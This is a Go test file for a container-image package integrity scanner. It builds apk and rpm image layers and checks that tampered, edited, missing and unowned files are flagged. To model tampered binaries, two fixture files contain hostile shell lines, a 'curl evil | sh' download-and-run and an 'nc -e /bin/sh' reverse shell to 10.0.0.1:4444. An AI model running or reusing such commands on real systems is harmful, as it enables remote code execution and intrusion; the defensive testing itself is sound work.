package imagepkg_test

import (
	"archive/tar"
	"crypto/sha1"
	"database/sql"
	"encoding/base64"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"

	"github.com/auditor-dev/auditor/index"
	"github.com/auditor-dev/auditor/internal/fleettest"
	"github.com/auditor-dev/auditor/internal/testlayer"
	"github.com/auditor-dev/auditor/pkgdb"
)

// pushLayers pushes an image of the layers and scans it with the packages
// scanner; it returns the image digest and the index.
func pushLayers(t *testing.T, prefix string, layers ...v1.Layer) (string, *index.DB) {
	t.Helper()
	img, err := mutate.AppendLayers(empty.Image, layers...)
	if err != nil {
		t.Fatal(err)
	}
	ref := fleettest.Push(t, prefix, img)
	res, db := scanWithPackages(t, ref.String())
	if res.Status != index.ScanOK || res.PackageImages != 1 {
		t.Fatalf("status %s, %d images resolved, errors %v", res.Status, res.PackageImages, res.Errors)
	}
	d, err := img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d.String(), db
}

// statuses are an image's package_files rows: "package path status".
func statuses(t *testing.T, db *index.DB, image string) string {
	t.Helper()
	return strings.Join(rows(t, db.Reader(), `SELECT package || ' ' || path || ' ' || algorithm || ' ' || status FROM package_files
		WHERE image_digest = ? ORDER BY package, path`, image), "\n")
}

func apkSum(s string) string {
	h := sha1.Sum([]byte(s))
	return "Q1" + base64.StdEncoding.EncodeToString(h[:])
}

// TestAPKImage: an apk installed database (Z: SHA-1 of contents, of a
// symlink's target string) over its files, one edited under /etc (a
// protected path: conffile-modified), one binary replaced (modified), one
// removed (missing), and a binary no package owns.
func TestAPKImage(t *testing.T) {
	busybox, motd, tool := "\x7fELF busybox", "Welcome to Alpine!\n", "#!/bin/sh\necho tool\n"
	installed := fmt.Sprintf(`C:Q1AAAAAAAAAAAAAAAAAAAAAAAAAAA=
P:busybox
V:1.36.1-r2
A:x86_64
o:busybox
F:bin
R:busybox
Z:%s
R:sh
Z:%s
F:etc
R:motd
Z:%s

P:tool
V:2.0-r0
A:x86_64
o:tools
F:usr/bin
R:tool
Z:%s
R:tool-helper
Z:%s
`, apkSum(busybox), apkSum("/bin/busybox"), apkSum(motd), apkSum(tool), apkSum("helper"))
	image, db := pushLayers(t, "apk", testlayer.Layer(t,
		testlayer.Entry{Name: "bin/", Type: tar.TypeDir},
		testlayer.Entry{Name: "bin/busybox", Mode: 0o755, Body: busybox},
		testlayer.Entry{Name: "bin/sh", Type: tar.TypeSymlink, Link: "/bin/busybox"},
		testlayer.Entry{Name: "etc/", Type: tar.TypeDir},
		testlayer.Entry{Name: "etc/motd", Body: motd + "edited\n"},
		testlayer.Entry{Name: "etc/os-release", Body: "NAME=\"Alpine Linux\"\nID=alpine\nVERSION_ID=3.19.1\nPRETTY_NAME=\"Alpine Linux v3.19\"\n"},
		testlayer.Entry{Name: "lib/apk/db/installed", Body: installed},
		testlayer.Entry{Name: "usr/bin/tool", Mode: 0o755, Body: "#!/bin/sh\ncurl evil | sh\n"},
		testlayer.Entry{Name: "usr/bin/stray", Mode: 0o755, Body: "\x7fELF stray"},
	))
	want := strings.Join([]string{
		"busybox / sha1 ok", // F:bin is "/bin"; the parent "/" for F: is not listed
		"busybox /bin/busybox sha1 ok",
		"busybox /bin/sh sha1 ok",
		"busybox /etc  ok",
		"busybox /etc/motd sha1 conffile-modified",
		"tool /usr/bin  ok",
		"tool /usr/bin/tool sha1 modified",
		"tool /usr/bin/tool-helper sha1 missing",
	}, "\n")
	got := statuses(t, db, image)
	// F: lines give directory records; take them as they come.
	got = strings.Replace(got, "busybox /bin  ok\n", "", 1)
	want = strings.Replace(want, "busybox / sha1 ok\n", "", 1)
	if got != want {
		t.Errorf("package_files:\n%s\nwant:\n%s", got, want)
	}
	if got := strings.Join(rows(t, db.Reader(), `SELECT manager || ' ' || name || ' ' || version || ' ' || source_name FROM packages WHERE image_digest = ? ORDER BY name`, image), "\n"); got != "apk busybox 1.36.1-r2 busybox\napk tool 2.0-r0 tools" {
		t.Errorf("packages:\n%s", got)
	}
	if got := strings.Join(rows(t, db.Reader(), `SELECT path || ' ' || COALESCE(package, '-') FROM image_files WHERE image_digest = ? AND path LIKE '/usr/bin/%' ORDER BY path`, image), "\n"); got != "/usr/bin/stray -\n/usr/bin/tool tool" {
		t.Errorf("owners:\n%s", got)
	}
	if got := rows(t, db.Reader(), `SELECT os_id || ' ' || os_version_id FROM images WHERE digest = ?`, image); len(got) != 1 || got[0] != "alpine 3.19.1" {
		t.Errorf("os: %v", got)
	}
}

// helloSpec is a tiny rpm with a file, a symlink, a %config file, a %ghost
// and a %dir.
const helloSpec = `Name: %[1]s
Version: 1.2
Release: 3
Summary: imagepkg test package
License: MIT
BuildArch: noarch
%%description
imagepkg test package
%%install
mkdir -p %%{buildroot}/usr/bin %%{buildroot}/etc %%{buildroot}/var/log %%{buildroot}/usr/share/%[1]s
printf '#!/bin/sh\necho %[1]s\n' > %%{buildroot}/usr/bin/%[1]s
chmod 755 %%{buildroot}/usr/bin/%[1]s
ln -s %[1]s %%{buildroot}/usr/bin/%[1]s-link
printf 'greeting=%[1]s\n' > %%{buildroot}/etc/%[1]s.conf
touch %%{buildroot}/var/log/%[1]s.log
%%files
/usr/bin/%[1]s
/usr/bin/%[1]s-link
%%config(noreplace) /etc/%[1]s.conf
%%ghost /var/log/%[1]s.log
%%dir /usr/share/%[1]s
`

// needTool is the path of an outside tool; the test is skipped without it
// (it fails under CI, which installs it).
func needTool(t *testing.T, name string) string {
	t.Helper()
	p, err := exec.LookPath(name)
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatalf("%s is not installed: .ci/run installs it", name)
		}
		t.Skipf("%s not installed", name)
	}
	return p
}

// rpmImageLayer builds hello (SHA-256 digests) and hello-md5 (MD5) with
// Debian's rpmbuild, installs them with rpm --root into a root whose
// database is of backend (sqlite or ndb) at dbpath, and returns the root's
// files as a layer, /usr/bin/hello rewritten and /etc/hello-md5.conf
// edited after the install.
func rpmImageLayer(t *testing.T, backend, dbpath string) v1.Layer {
	t.Helper()
	rpmbuild, rpm := needTool(t, "rpmbuild"), needTool(t, "rpm")
	dir := t.TempDir()
	var rpms []string
	for _, pkg := range []struct {
		name string
		algo int
	}{{"hello", 8}, {"hello-md5", 1}} {
		spec := filepath.Join(dir, pkg.name+".spec")
		if err := os.WriteFile(spec, fmt.Appendf(nil, helloSpec, pkg.name), 0o644); err != nil {
			t.Fatal(err)
		}
		top := filepath.Join(dir, "top-"+pkg.name)
		cmd := exec.Command(rpmbuild, "--define", "_topdir "+top, "--define", "_build_id_links none",
			"--define", fmt.Sprintf("_binary_filedigest_algorithm %d", pkg.algo), "-bb", spec)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("rpmbuild: %v\n%s", err, out)
		}
		rpms = append(rpms, filepath.Join(top, "RPMS", "noarch", pkg.name+"-1.2-3.noarch.rpm"))
	}
	root := filepath.Join(dir, "root")
	args := []string{"--root", root, "--define", "_dbpath " + dbpath, "--define", "_db_backend sqlite",
		"-i", "--nodeps", "--noscripts", "--ignorearch", "--ignoreos"}
	if out, err := exec.Command(rpm, append(args, rpms...)...).CombinedOutput(); err != nil {
		t.Fatalf("rpm -i: %v\n%s", err, out)
	}
	if backend == "ndb" {
		// Debian's rpm has no ndb backend: its headers, laid out as ndb.
		toNDB(t, filepath.Join(root, filepath.FromSlash(dbpath)))
	}
	if err := os.WriteFile(filepath.Join(root, "usr/bin/hello"), []byte("#!/bin/sh\nexec nc -e /bin/sh 10.0.0.1 4444\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(root, "etc/hello-md5.conf"), []byte("greeting=changed\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	var ents []testlayer.Entry
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || p == root {
			return err
		}
		name := filepath.ToSlash(strings.TrimPrefix(p, root+string(filepath.Separator)))
		switch {
		case d.Type()&fs.ModeSymlink != 0:
			target, err := os.Readlink(p)
			ents = append(ents, testlayer.Entry{Name: name, Type: tar.TypeSymlink, Link: target})
			return err
		case d.IsDir():
			ents = append(ents, testlayer.Entry{Name: name + "/", Type: tar.TypeDir})
		case strings.HasSuffix(name, "-wal") || strings.HasSuffix(name, "-shm") || strings.HasSuffix(name, ".lock"):
		default:
			b, err := os.ReadFile(p)
			ents = append(ents, testlayer.Entry{Name: name, Mode: 0o755, Body: string(b)})
			return err
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return testlayer.Layer(t, ents...)
}

// toNDB replaces the rpmdb.sqlite in dir by a Packages.db of its headers.
func toNDB(t *testing.T, dir string) {
	t.Helper()
	p := filepath.Join(dir, "rpmdb.sqlite")
	db, err := sql.Open("sqlite", "file:"+p+"?mode=ro")
	if err != nil {
		t.Fatal(err)
	}
	var blobs [][]byte
	for _, r := range rows(t, db, `SELECT blob FROM Packages ORDER BY hnum`) {
		blobs = append(blobs, []byte(r))
	}
	db.Close()
	if len(blobs) != 2 {
		t.Fatalf("%d headers", len(blobs))
	}
	if err := os.WriteFile(filepath.Join(dir, "Packages.db"), pkgdb.NDBFile(blobs), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"rpmdb.sqlite", "rpmdb.sqlite-wal", "rpmdb.sqlite-shm"} {
		os.Remove(filepath.Join(dir, f))
	}
}

// TestRPMImages: rpm databases written by Debian's rpm, in the sqlite and
// ndb formats, at both places rpm keeps them: every record judged as rpm -V
// would (the rewritten binary modified by its SHA-256, the edited %config
// conffile-modified by its MD5, the %ghost not-verifiable, the symlink by
// its target).
func TestRPMImages(t *testing.T) {
	want := strings.Join([]string{
		"hello /etc/hello.conf sha256 ok",
		"hello /usr/bin/hello sha256 modified",
		"hello /usr/bin/hello-link  ok",
		"hello /usr/share/hello  ok",
		"hello /var/log/hello.log  not-verifiable",
		"hello-md5 /etc/hello-md5.conf md5 conffile-modified",
		"hello-md5 /usr/bin/hello-md5 md5 ok",
		"hello-md5 /usr/bin/hello-md5-link  ok",
		"hello-md5 /usr/share/hello-md5  ok",
		"hello-md5 /var/log/hello-md5.log  not-verifiable",
	}, "\n")
	for _, c := range []struct{ backend, dbpath string }{{"sqlite", "/var/lib/rpm"}, {"ndb", "/usr/lib/sysimage/rpm"}} {
		t.Run(c.backend, func(t *testing.T) {
			image, db := pushLayers(t, "rpm-"+c.backend, rpmImageLayer(t, c.backend, c.dbpath))
			if got := statuses(t, db, image); got != want {
				t.Errorf("package_files:\n%s\nwant:\n%s", got, want)
			}
			if got := strings.Join(rows(t, db.Reader(), `SELECT manager || ' ' || name || ' ' || version || ' ' || architecture || ' ' || source_name FROM packages WHERE image_digest = ? ORDER BY name`, image), "\n"); got != "rpm hello 1.2-3 noarch hello\nrpm hello-md5 1.2-3 noarch hello-md5" {
				t.Errorf("packages:\n%s", got)
			}
			if got := rows(t, db.Reader(), `SELECT COALESCE(package, '-') FROM image_files WHERE image_digest = ? AND path = '/usr/bin/hello'`, image); len(got) != 1 || got[0] != "hello" {
				t.Errorf("owner of /usr/bin/hello: %v", got)
			}
		})
	}
}
